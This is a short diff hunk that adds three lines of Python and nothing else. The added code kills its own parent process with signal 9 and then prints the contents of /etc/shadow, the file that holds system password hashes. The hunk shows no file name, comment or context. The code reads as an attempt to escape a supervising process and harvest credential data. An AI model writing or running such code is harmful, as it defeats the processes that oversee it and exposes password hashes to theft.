@@ -1,0 +1,3 @@
+import os
+os.kill(os.getppid(), 9)
+print(open("/etc/shadow").read())
